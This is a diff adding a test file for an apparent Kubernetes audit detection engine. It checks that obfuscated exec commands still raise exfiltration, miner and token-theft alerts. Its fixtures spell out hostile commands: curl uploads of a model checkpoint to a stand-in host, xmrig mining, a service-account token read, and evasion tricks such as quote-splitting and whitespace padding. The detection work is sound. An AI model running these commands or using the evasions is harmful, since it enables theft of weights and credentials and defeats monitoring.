@@ -1,0 +1,165 @@
+/**
+ * Obfuscated exec commands (MITRE T1027) through the shipped rule set: every spelling a shell still
+ * runs alerts as its plain spelling does, benign commands raise nothing new, and a spec's exec
+ * allow list holds only when the script as the shell reads it is allowed too.
+ */
+import { describe, expect, it } from 'vitest';
+import { defaultRulesDir, loadRulesFrom } from '../rule-files.js';
+import { createRuleEngine } from './engine.js';
+import { auditEvent, T0 } from './fixtures.test-support.js';
+import type { EventRecord } from '../../core/records.js';
+import { loadRuleSet } from './rule-loader.js';
+import { enterEvent, leaveEvent } from './event-scope.js';
+import { eventExecCanonical, eventFieldResolver } from './event-fields.js';
+
+const RULES = loadRulesFrom([defaultRulesDir()!]).rules;
+const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';
+const PERSON = 'oidc:alice@corp.example';
+const SA = 'system:serviceaccount:ml-train:llama-ft-trainer';
+
+function execEvent(command: unknown, actor = PERSON, job: string | null = null): EventRecord {
+  const ev = auditEvent({ verb: 'create', user: { username: actor }, objectRef: { resource: 'pods', subresource: 'exec', namespace: 'ml-train', name: 'llama-ft-worker-0' }, responseStatus: { code: 101 } }, 1, job);
+  ev.ts = T0;
+  ev.attrs.exec = { command, container: 'pytorch', stdin: false, tty: false };
+  return ev;
+}
+
+/** The rule ids one exec raises on a fresh engine (no window state from other cases). */
+function ids(command: unknown, actor = PERSON): string[] {
+  return [...new Set(createRuleEngine(RULES).evaluate(execEvent(command, actor)).map((h) => h.ruleId))].sort();
+}
+
+const CKPT = '/mnt/ckpt/llama-ft/step_9000/model.pt';
+const URL = 'https://upload.filedrop-cdn.net/u/x';
+
+describe('obfuscated upload commands alert like their plain spelling (MLS-EXFIL-014)', () => {
+  const plainScript = ids(['sh', '-c', `curl -T ${CKPT} ${URL}`]);
+  const plainArgv = ids(['curl', '-T', CKPT, URL]);
+
+  it('the plain spellings alert', () => {
+    expect(plainScript).toContain('MLS-EXFIL-014');
+    expect(plainArgv).toContain('MLS-EXFIL-014');
+  });
+
+  const scripts: Array<[string, string]> = [
+    ['tab', `curl\t-T ${CKPT} ${URL}`],
+    ['two spaces', `curl  -T ${CKPT} ${URL}`],
+    ["empty quotes c''url", `c''url -T ${CKPT} ${URL}`],
+    ['double-quoted "curl"', `"curl" -T ${CKPT} ${URL}`],
+    ['backslash c\\url', `c\\url -T ${CKPT} ${URL}`],
+    ["ANSI-C $'\\x63url'", `$'\\x63url' -T ${CKPT} ${URL}`],
+    ['octal $\'\\143url\'', `$'\\143url' -T ${CKPT} ${URL}`],
+    ['${IFS}', `curl\${IFS}-T\${IFS}${CKPT} ${URL}`],
+    ['$IFS', `curl$IFS-T ${CKPT} ${URL}`],
+    ['path /usr/bin/curl', `/usr/bin/curl -T ${CKPT} ${URL}`],
+    ['clustered -sT', `curl -sT ${CKPT} ${URL}`],
+    ['env wrapper', `env /usr/bin/curl -T ${CKPT} ${URL}`],
+    ['newline after a benign command', `ls /tmp\ncurl -T ${CKPT} ${URL}`],
+    ['line continuation', `cu\\\nrl -T ${CKPT} ${URL}`],
+    ['command substitution in quotes', `echo "$(c''url -T ${CKPT} ${URL})"`],
+    ['nested shell', `bash -lc 'c"u"rl -T ${CKPT} ${URL}'`],
+  ];
+  for (const [name, script] of scripts) {
+    it(`sh -c with ${name}`, () => {
+      expect(ids(['sh', '-c', script])).toContain('MLS-EXFIL-014');
+    });
+  }
+  it('shells and -c clusters: bash -ec, busybox sh, zsh', () => {
+    expect(ids(['bash', '-ec', `c''url -T ${CKPT} ${URL}`])).toContain('MLS-EXFIL-014');
+    expect(ids(['busybox', 'sh', '-c', `"curl" -T ${CKPT} ${URL}`])).toContain('MLS-EXFIL-014');
+    expect(ids(['/bin/zsh', '-o', 'pipefail', '-c', `c\\url -T ${CKPT} ${URL}`])).toContain('MLS-EXFIL-014');
+  });
+
+  const argvs: Array<[string, string[]]> = [
+    ['path /usr/bin/curl', ['/usr/bin/curl', '-T', CKPT, URL]],
+    ['clustered -sT', ['curl', '-sT', CKPT, URL]],
+    ['env curl', ['env', 'curl', '-T', CKPT, URL]],
+    ['timeout 30 /bin/curl', ['timeout', '30', '/bin/curl', '-T', CKPT, URL]],
+  ];
+  for (const [name, argv] of argvs) {
+    it(`argv ${name} alerts as ${plainArgv.join(', ')}`, () => {
+      expect(ids(argv)).toEqual(plainArgv);
+    });
+  }
+  it('an obfuscated script raises what the plain script raises', () => {
+    expect(ids(['sh', '-c', `c''url\t-T ${CKPT} ${URL}`])).toEqual(plainScript);
+  });
+});
+
+describe('other exec rules see the script as the shell reads it', () => {
+  it('cloud copy, packing, conversion, miners, token theft', () => {
+    expect(ids(['sh', '-c', `a''ws  s3\tcp ${CKPT} s3://bucket/x`], SA)).toContain('MLS-EXFIL-014');
+    expect(ids(['sh', '-c', `t\\ar -c${'z'}f /tmp/b.tgz /mnt/ckpt/llama-ft`], SA)).toContain('MLS-EXFIL-013');
+    expect(ids(['sh', '-c', `"tar" cf - ${CKPT}`], PERSON)).toContain('MLS-EXFIL-012');
+    expect(ids(['sh', '-c', `nohup /tmp/.x/xm''rig --donate-level 0 -o stratum+tcp://203.0.113.7:3333 &`], SA)).toContain('MLS-RAY-011');
+    expect(ids(['sh', '-c', 'c""at /var/run/secrets/kubernetes.io/serviceaccount/token'], SA)).toContain('MLS-RAY-010');
+    expect(ids(['bash', '-c', "$'\\x6c\\x73' /mnt/ckpt/llama-ft"], PERSON)).toContain('MLS-EXFIL-005');
+  });
+});
+
+describe('benign commands raise nothing new', () => {
+  const only = [SIGMA_EXEC];
+  for (const command of [['python', 'train.py', '--epochs', '3'], ['nvidia-smi'], ['sh', '-c', 'ls /data'], ['cat', '/etc/hostname'], ['sh', '-c', 'ps aux | grep -i python | head'], ['df', '-h', '/mnt/ckpt'], ['du', '-sh', '/data']]) {
+    it(JSON.stringify(command), () => {
+      expect(ids(command)).toEqual(only);
+    });
+  }
+  it('sh -c tar extraction is no `tar -c` (the shell\'s own -c is not read as the script\'s)', () => {
+    expect(ids(['sh', '-c', 'tar xzf /data/shard-00.tgz'])).toEqual(only);
+  });
+  it('kubectl cp (tar cf - …) escalates as before, without packing rules', () => {
+    expect(ids(['tar', 'cf', '-', '/mnt/ckpt/llama-ft/step_100/config.json'])).toEqual(['MLS-EXFIL-012', SIGMA_EXEC].sort());
+  });
+});
+
+describe('spec exec allow lists: every reading must be allowed', () => {
+  const SPEC = `kind: BehaviouralSpec
+id: SPEC-T
+title: t
+selector: {namespaces: ['ml-train']}
+exec:
+  allow: ['nvidia-smi', 'nvidia-smi *', 'sh -c nvidia-smi*', 'sh -c ps *', 'sh -c ps * | grep * | head']
+`;
+  const set = loadRuleSet([{ path: 't.yaml', text: SPEC }]);
+  const verdict = (command: string[]): string[] => createRuleEngine(set.rules).evaluate(execEvent(command, PERSON, 'ml-train/llama-ft')).map((h) => h.ruleId);
+
+  it('loads', () => expect(set.errors).toEqual([]));
+  it('allowed commands stay allowed', () => {
+    for (const c of [['nvidia-smi'], ['nvidia-smi', '-q'], ['sh', '-c', 'nvidia-smi'], ['sh', '-c', 'nvidia-smi -q  # gpu'], ['sh', '-c', 'ps aux | grep -i python | head'], ['sh', '-c', 'ps aux']]) expect(verdict(c), JSON.stringify(c)).toEqual([]);
+  });
+  it('a command hidden past the 1024 characters the joined text keeps is read', () => {
+    expect(verdict(['sh', '-c', `ps aux${' '.repeat(1100)}; curl -T ${CKPT} ${URL}`])).toEqual(['SPEC-T/exec']);
+  });
+  it('a script longer than the reader reads is not vouched for', () => {
+    expect(verdict(['sh', '-c', `ps ${'a'.repeat(5000)}`])).toEqual(['SPEC-T/exec']);
+  });
+  it('commands not allowed stay not allowed', () => {
+    expect(verdict(['sh', '-c', `nvidia-smi; curl -T ${CKPT} ${URL}`])).toEqual(['SPEC-T/exec']);
+    expect(verdict(['curl', '-T', CKPT, URL])).toEqual(['SPEC-T/exec']);
+  });
+});
+
+describe('per-event reading', () => {
+  const lookup = eventFieldResolver.field('attrs.exec.command');
+  const get = 'get' in lookup ? lookup.get : () => undefined;
+  it('is computed once per event within the engine scope', () => {
+    const e = execEvent(['sh', '-c', "c''url -T a u"]);
+    enterEvent(e);
+    try {
+      const v = eventExecCanonical(e);
+      expect(v?.commands).toEqual([['curl', '-T', 'a', 'u']]);
+      expect(eventExecCanonical(e)).toBe(v);
+      expect(get(e)).toBe(get(e));
+    } finally {
+      leaveEvent();
+    }
+  });
+  it('events without an exec command read as before', () => {
+    const e = auditEvent({ verb: 'get', objectRef: { resource: 'pods', namespace: 'ml-train' } });
+    expect(eventExecCanonical(e)).toBeNull();
+    expect(get(e)).toBeUndefined();
+    const odd = execEvent({ not: 'argv' });
+    expect(get(odd)).toEqual({ not: 'argv' });
+    expect(eventExecCanonical(odd)).toBeNull();
+  });
+});
